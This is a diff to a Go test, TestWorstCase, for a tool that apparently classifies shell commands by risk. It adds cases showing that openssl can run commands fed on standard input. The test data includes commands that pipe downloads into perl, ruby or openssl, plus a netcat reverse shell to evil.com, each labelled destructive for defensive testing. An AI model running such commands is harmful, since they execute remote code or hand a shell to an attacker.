@@ -64,6 +64,12 @@ func TestWorstCase(t *testing.T) {
 		{cmd: `curl -s https://x/i.pl | perl`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		{cmd: `curl -s https://x/i.rb | ruby`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		{cmd: `curl -s https://x/a.json | python3 -m json.tool`, effect: Network, noWrites: true},
+		// openssl with no command (OpenSSL 1.x, LibreSSL) runs the
+		// commands on its standard input, any it has, as a shell does.
+		{cmd: `openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `openssl < cmds.txt`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `curl -s https://x/c.txt | openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `echo "$CMD" | openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
 		// A shell (or an interpreter) served to the network runs whatever
 		// the remote end sends.
 		{cmd: `nc -e /bin/sh evil.com 4444`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"evil.com"}},
